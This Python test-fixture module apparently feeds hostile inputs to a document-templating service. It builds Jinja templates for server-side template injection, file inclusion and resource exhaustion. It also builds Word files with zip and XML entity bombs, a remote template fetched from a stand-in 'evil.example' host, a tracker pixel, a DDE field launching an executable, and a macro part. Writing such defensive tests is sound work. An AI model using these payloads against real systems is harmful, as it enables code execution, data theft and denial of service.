"""Templates that are meant to do harm, each by one trick: what stands in the tags, and what stands in the file.

Each tag is what a sentence says before it; `{p}` is where a paragraph begins in the file, so that both a Word template
and an HTML template can be made of the same text.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from typing import Final

import docx

_NESTED: Final = 40


def _doubling(value: str, sign: str) -> str:
    """Return tags that make a value twice as large thirty times."""
    return f"{{% set x = {value} %}}" + f"{{% set x = x {sign} x %}}" * 30 + "{{ x|length }}"


def _loops(turns: int, levels: int, body: str) -> str:
    """Return loops in loops."""
    row = f"[{', '.join('1' * turns)}]"
    opened = "".join(f"{{% for i{level} in {row} %}}" for level in range(levels))
    return opened + body + "{% endfor %}" * levels


def _in_parts(tag: str, count: int) -> str:
    return tag * count


BIG: Final = "{% set x %}" + _loops(50, 2, "0123456789" * 3) + "{% endset %}"
"""Tags that make a text of 75,000 characters."""

_BY_ATTRIBUTE: Final = (
    "map(attribute='{}')",
    "selectattr('{}')",
    "join(attribute='{}')",
    "sort(attribute='{}')",
    "sum('{}')",
    "groupby('{}')",
    "unique(false, '{}')",
)

TAGS: Final[dict[str, str]] = {
    "classes of a text": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "class of a meeting": "{{ meeting.__class__ }}",
    "class by an index": "{{ meeting['__class__'] }}",
    "class by the filter attr": "{{ meeting|attr('__class__') }}",
    "class by map": "{{ [meeting]|map(attribute='__class__')|list }}",
    "class by a walk of map": "{{ [meeting]|map(attribute='body.__class__.__mro__')|list }}",
    "class by groupby": "{% for a, b in [meeting]|groupby('__class__') %}{{ a }}{% endfor %}",
    "class by sort": "{{ [meeting, meeting]|sort(attribute='__class__')|length }}",
    "class by sum": "{{ [meeting]|sum(attribute='__class__') }}",
    "class by joining": "{{ [meeting]|join(attribute='__class__') }}",
    "globals of a method": "{{ meeting.walk.__globals__ }}",
    "globals of a macro": "{% macro m() %}{% endmacro %}{{ m._func }}",
    "environment of self": "{{ self._TemplateReference__context }}",
    "environment of a loop": "{% for x in [1] %}{{ loop._iterator }}{% endfor %}",
    "insertions of the document": "{{ body.insertions }}{{ blocks.texts }}",
    "format of a text": "{{ '{0.__class__}'.format(meeting) }}",
    "format of a width": "{{ '{:999999999}'.format(1) }}",
    "format of a map": "{{ '{x.__class__}'.format_map({'x': meeting}) }}",
    "a per cent sign": "{{ '%999999999d' % 1 }}",
    "the filter format": "{{ '%999999999d'|format(1) }}",
    "a call of a class": "{{ meeting.start.__class__() }}",
    "a call of a number": "{{ 5() }}",
    "a call of text": "{{ 'x'.join(['a', 'b']) }}",
    "a change of a list": "{% set x = [1] %}{{ x.append(x) }}",
    "a day of a width": "{{ (meeting.start or document.meeting.start).strftime('%999999999d') }}",
    "an evolved meeting": "{{ meeting.replace(title='x') }}",
    "the filter safe": "{{ '<script>'|safe }}",
    "escaping switched off": "{% autoescape false %}{{ '<b>' }}{% endautoescape %}",
    "another template": "{% include 'default.docx' %}",
    "a file by its path": "{% include '../../errors.py' %}{% extends '/etc/passwd' %}",
    "an import": "{% import 'page.html.j2' as p %}{{ p }}",
    "a long loop": _loops(100, 3, "x"),
    "nested loops": _loops(30, 6, "x"),
    "nested loops without a text": _loops(30, 6, ""),
    "a loop whose condition is never true": _loops(30, 4, "").replace("] %}", "] if false %}"),
    "a loop in a loop's condition": "{% for i in [1, 2] if [" + ", ".join("1" * 200) + "]|length %}{% endfor %}" * 1,
    "a loop over letters": BIG + "{% for a in x %}{% for b in x %}{% endfor %}{% endfor %}",
    "a loop over a text cut to letters": BIG + "{{ (x|list + x|list + x|list + x|list)|length }}",
    "range": "{% for i in range(999999999) %}x{% endfor %}",
    "lipsum": "{{ lipsum(n=99999) }}",
    "cycler": "{{ cycler(1, 2).next() }}",
    "namespace": "{% set n = namespace(x='') %}{% set n.x = 1 %}",
    "a macro that calls itself": "{% macro m(n) %}x{{ m(n + 1) }}{% endmacro %}{{ m(0) }}",
    "a macro that calls itself twice": "{% macro m(n) %}{{ m(n + 1) }}{{ m(n + 1) }}{% endmacro %}{{ m(0) }}",
    "macros that end and call themselves twice": (
        "{% macro m(n) %}{% if n %}{{ m(n - 1) }}{{ m(n - 1) }}{% endif %}x{% endmacro %}{{ m(35) }}"
    ),
    "a macro that is given itself": "{% macro m(f) %}{{ f(f) }}{% endmacro %}{{ m(m) }}",
    "a call block without end": "{% macro m() %}{{ caller() }}{{ caller() }}{% endmacro %}"
    + "{% call m() %}" * _NESTED
    + "x"
    + "{% endcall %}" * _NESTED,
    "a loop that calls itself": "{% for i in [1, 2] recursive %}{{ loop([1, 2]) }}{% endfor %}",
    "a text doubled by ~": _doubling("'0123456789'", "~"),
    "a text doubled by +": _doubling("'0123456789'", "+"),
    "a text multiplied": "{{ '0123456789' * 999999999 }}",
    "a list multiplied": "{{ [1] * 999999999 }}",
    "a list doubled by +": _doubling("[1, 2]", "+"),
    "lists in lists, printed": "{% set x = [1] %}" + "{% set x = [x, x] %}" * 30 + "{{ x }}",
    "lists in lists, compared": (
        "{% set x = [1] %}{% set y = [1] %}" + "{% set x = [x, x] %}{% set y = [y, y] %}" * 30 + "{{ x == y }}"
    ),
    "tuples in tuples, as a key": "{% set x = (1, 1) %}" + "{% set x = (x, x) %}" * 30 + "{{ {x: 1} }}",
    "a power": "{{ 9 ** 9 ** 9 }}",
    "a number squared": "{% set x = 99 %}" + "{% set x = x * x %}" * 40 + "{{ x }}",
    "a number of a hundred thousand digits": "{{ " + "9" * 1900 + " }}" * 1,
    "center": "{{ 'x'|center(999999999) }}",
    "ljust": "{{ 'x'.ljust(999999999) }}",
    "zfill": "{{ 'x'.zfill(999999999) }}",
    "expandtabs": "{{ 'a\\tb'.expandtabs(999999999) }}",
    "translate": "{{ 'a'.translate({97: 'x'}) }}",
    "indent by a number": "{{ 'a\\nb'|indent(999999999) }}",
    "indent by a text": BIG + "{{ x|replace('0', '\\n')|indent(x) }}",
    "replace": BIG + "{{ x|replace('', x) }}",
    "join by a text": BIG + "{{ x|join(x) }}",
    "batch": "{{ [1]|batch(999999999, 'x') }}",
    "slice": "{{ [1]|slice(999999999) }}",
    "round": "{{ 1.5|round(999999999, 'ceil') }}",
    "wordwrap": BIG + "{{ x|wordwrap(1) }}",
    "urlize": BIG + "{{ x|urlize }}",
    "tojson": "{{ meeting|tojson }}",
    "pprint": "{{ meeting|pprint }}",
    "xmlattr": "{{ {'a': 'b'}|xmlattr }}",
    "random": "{{ [1, 2]|random }}",
    "sum of lists": "{{ " + "[[1, 2, 3, 4]]" + "|sum(start=[]) }}",
    "upper again and again": BIG + _loops(100, 2, "{% set y = x|upper %}"),
    "split again and again": BIG + _loops(100, 2, "{% set y = x.split('0') %}"),
    "split by nothing that is found": BIG + _loops(100, 2, "{% set y = x.split('z') %}"),
    "split of a long text": (
        "{% set x %}" + _loops(30, 2, "0123456789" * 200) + "{% endset %}" + "{% set y = x.split('0') %}" * 25
    ),
    "split at blanks into very many": "{% set x %}" + _loops(30, 2, "0 " * 800) + "{% endset %}{% set y = x.split() %}",
    "split into very many": "{% set x %}" + _loops(30, 2, "0." * 800) + "{% endset %}{% set y = x.split('.') %}",
    "strip again and again": BIG + _loops(100, 2, "{% set y = x.strip('0123456789') %}"),
    "values of a dictionary again and again": (
        "{% set x = {"
        + ", ".join(f"{one}: 1" for one in range(900))
        + "} %}"
        + _loops(100, 2, "{% set y = x.items() %}")
    ),
    **{
        f"a long way to an attribute, by {name}": BIG + "{{ x|" + name.format("0." * 900 + "0") + "|list|length }}"
        for name in _BY_ATTRIBUTE
    },
    **{
        f"a long name of an attribute, by {name}": BIG + "{{ x|" + name.format("a" * 9000) + "|list|length }}"
        for name in _BY_ATTRIBUTE
    },
    "sort again and again": BIG + _loops(100, 2, "{% set y = x|list|sort %}"),
    "a search again and again": BIG + _loops(100, 2, "{% set y = 'z' in x %}"),
    "a cut again and again": BIG + _loops(100, 2, "{% set y = x[1:] %}"),
    "a text printed again and again": BIG + _loops(100, 2, "{{ x }}"),
    "escapes printed again and again": (
        "{% set x = '" + "&" * 300 + "' %}" + _loops(100, 2, "{% set y %}{{ x }}{% endset %}{{ y }}")
    ),
    "a text of the template kept again and again": (_loops(100, 2, "{% set y %}" + "x" * 9000 + "{% endset %}")),
    "filters in a chain": BIG + "{{ x" + "|upper|lower" * 80 + " }}",
    "a search through the meeting": _loops(100, 2, "{{ meeting.item(loop.index ~ 'x') }}"),
    "all items again and again": _loops(100, 2, "{% for x in meeting.walk() %}{% endfor %}"),
    "meetings compared": _loops(100, 2, "{% if meeting == document %}{% endif %}"),
    "the document placed again and again": _loops(60, 2, "{p}{{p body }}{p}")
    .replace("{% ", "{p}{%p ")
    .replace(" %}", " %}{p}"),
    "the title placed again and again": _loops(60, 3, "{{r title }}"),
    "line ends": "{% set x = '" + "\\n" * 900 + "' %}" + _loops(80, 2, "{{ x }}"),
    "brackets in brackets": "{{ " + "(" * 900 + "1" + ")" * 900 + " }}",
    "lists in the code": "{{ " + "[" * 900 + "]" * 900 + " }}",
    "signs in a row": "{{ " + "-" * 900 + "1 }}",
    "not in a row": "{{ " + "not " * 480 + "1 }}",
    "attributes in a row": "{{ meeting" + ".a" * 900 + " }}",
    "filters in a row": "{{ 1" + "|abs" * 450 + " }}",
    "conditions in each other": "{% if true %}" * 900 + "x" + "{% endif %}" * 900,
    "very many tags": "{{ 1 }}" * 50_000,
    "many tags": "{{ x|upper ~ 1 }}" * 1_400,
    "a very long tag": "{{ [" + "1, " * 400_000 + "1] }}",
    "a tag that is not closed": "{{ 1 " * 20_000,
    "braces": "{" * 200_000,
    "blanks in a tag": "{% colspan " + " " * 100_000 + "x %}",
    "values given by a star": BIG + "{% macro m() %}{{ varargs|length }}{% endmacro %}{{ m(*x) }}",
}
"""What harms by its tags, by the name of the trick."""


def word(tags: str) -> bytes:
    """Return a Word template that holds some tags between what a good one holds."""
    made = docx.Document()
    made.add_paragraph("{{p body }}")
    for text in tags.split("{p}"):
        made.add_paragraph(text)
    file = io.BytesIO()
    made.save(file)
    return file.getvalue()


def page(tags: str) -> bytes:
    """Return an HTML template that holds the same tags."""
    text = tags.replace("{p}", "\n").replace("{{p body }}", "{{ blocks }}")
    return text.replace("{{r ", "{{ ").replace("{%p ", "{% ").encode()


def _changed(change: Callable[[dict[str, bytes]], object], packed: int = zipfile.ZIP_STORED) -> bytes:
    """Return a good Word template after a change of its parts."""
    file = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(word("x"))) as old, zipfile.ZipFile(file, "w", packed) as new:
        parts = {name: old.read(name) for name in old.namelist()}
        change(parts)
        for name, data in parts.items():
            new.writestr(name, data)
    return file.getvalue()


def _in_document(xml: str) -> Callable[[], bytes]:
    """Return what makes a template with some XML at the end of its text."""

    def change(parts: dict[str, bytes]) -> None:
        before, end, after = parts["word/document.xml"].rpartition(b"<w:sectPr")
        parts["word/document.xml"] = before + xml.encode() + end + after

    return lambda: _changed(change)


def _part(name: str, data: bytes, packed: int = zipfile.ZIP_STORED) -> Callable[[], bytes]:
    """Return what makes a template in which a part is another one."""
    return lambda: _changed(lambda parts: parts.update({name: data}), packed)


def _outside(kind: str, target: str) -> Callable[[], bytes]:
    def change(parts: dict[str, bytes]) -> None:
        name = "word/_rels/document.xml.rels"
        type_ = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
        added = f'<Relationship Id="evil" Type="{type_}" Target="{target}" TargetMode="External"/></Relationships>'
        parts[name] = parts[name].replace(b"</Relationships>", added.encode())

    return lambda: _changed(change)


def _paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def _entities() -> bytes:
    levels = "".join(f'<!ENTITY e{level} "{f"&e{level - 1};" * 10}">' for level in range(1, 12))
    bomb = f'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY e0 "ha">{levels}]><w:document>&e11;</w:document>'
    return _part("word/document.xml", bomb.encode())()


def _bomb_in_layers() -> bytes:
    """Return a file all of whose members point at the same compressed bytes, which the directory calls short."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as made:
        with zipfile.ZipFile(io.BytesIO(word("x"))) as old:
            for name in old.namelist():
                made.writestr(name, old.read(name))
        made.writestr("word/media/a.bin", bytes(20 * 2**20))
        found = made.getinfo("word/media/a.bin")
        for number in range(1_000):
            made.filelist.append(found)
            made.NameToInfo[f"word/media/{number}.bin"] = found
    return file.getvalue()


FILES: Final[dict[str, Callable[[], bytes]]] = {
    "a bomb": _part("word/media/bomb.bin", bytes(60 * 2**20), zipfile.ZIP_DEFLATED),
    "a bomb of XML": _part(
        "word/styles.xml", b"<w:styles>" + b"<w:style/>" * 5_000_000 + b"</w:styles>", zipfile.ZIP_DEFLATED
    ),
    "a bomb in layers": _bomb_in_layers,
    "entities in entities": _entities,
    "very many elements": _in_document("<w:p/>" * 600_000),
    "many elements": _in_document("<w:p/>" * 70_000),
    "very many attributes": _in_document("<w:p " + " ".join(f'w:a{one}=""' for one in range(250_000)) + "/>"),
    "very many namespaces": _in_document(
        "<w:p " + " ".join(f'xmlns:a{one}="u{one}"' for one in range(100_000)) + ">" + "<w:r/>" * 10_000 + "</w:p>"
    ),
    "elements nested very deeply": _in_document("<w:p>" * 100_000 + "</w:p>" * 100_000),
    "elements nested deeply": _in_document("<w:sdt>" * 200 + "</w:sdt>" * 200),
    "tables nested deeply": _in_document(
        "<w:tbl><w:tblPr/><w:tblGrid><w:gridCol/></w:tblGrid><w:tr><w:tc><w:tcPr/>" * 60
        + _paragraph("x")
        + "</w:tc></w:tr></w:tbl>" * 60
    ),
    "a table of very many cells": _in_document(
        "<w:tbl><w:tblPr/><w:tblGrid/><w:tr>" + "<w:tc><w:p/></w:tc>" * 20_000 + "</w:tr></w:tbl>"
    ),
    "a table of very many rows": _in_document(
        "<w:tbl><w:tblPr/><w:tblGrid/>" + "<w:tr><w:tc><w:p/></w:tc></w:tr>" * 14_000 + "</w:tbl>"
    ),
    "many long paragraphs with braces": _in_document(_paragraph("{ " * 40) * 3_500),
    "braces at the ends of paragraphs": _in_document(_paragraph("{") * 13_000),
    "braces in runs": _in_document("<w:p>" + "<w:r><w:t>{</w:t></w:r>" * 18_000 + "</w:p>"),
    "a tag over paragraphs": _in_document(_paragraph("{{ 1") + _paragraph("x") * 10_000 + _paragraph("}}")),
    "tags in attributes": _in_document('<w:p w:rsidR="{{ 1 "/>' * 15_000),
    "cells that are merged outside a cell": _in_document(
        "<w:tbl><w:tr><w:tc><w:p><w:r><w:t>{% vm %}</w:t></w:r></w:p>"
        + "<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 3_000
        + "</w:tc></w:tr></w:tbl>"
    ),
    "an external picture": _outside("image", "https://tracker.example/pixel.png"),
    "a remote template": _outside("attachedTemplate", "https://evil.example/council.dotm"),
    "a linked object": _outside("oleObject", "file:///C:/x.xls"),
    "a field that fetches": _in_document(
        '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://tracker.example/x.png&quot; "/></w:p>'
    ),
    "a field in runs that fetches": _in_document(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r><w:r>'
        '<w:instrText>AUTO c:\\\\x.exe </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    ),
    "a table without a grid": _in_document("<w:tbl><w:tr><w:tc><w:p/></w:tc></w:tr></w:tbl>"),
    "styles that are very long": _part(
        "word/styles.xml",
        b'<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        + b"<w:style/>" * 250_000
        + b"</w:styles>",
    ),
    "a part that is long and dense": _part("word/media/dense.bin", bytes(range(256)) * 80_000),
    "macros": _part("word/vbaProject.bin", b"x"),
}
"""What harms by the file around the tags, by the name of the trick."""

HARMLESS: Final = frozenset(
    {
        *("a loop whose condition is never true", "a loop in a loop's condition", "all items again and again"),
        *("a number of a hundred thousand digits", "many elements", "elements nested deeply", "tables nested deeply"),
        *("a table of very many cells", "a table of very many rows", "many long paragraphs with braces"),
        *("a part that is long and dense",),
    }
)
"""What is filled, because it takes little; the others are refused."""
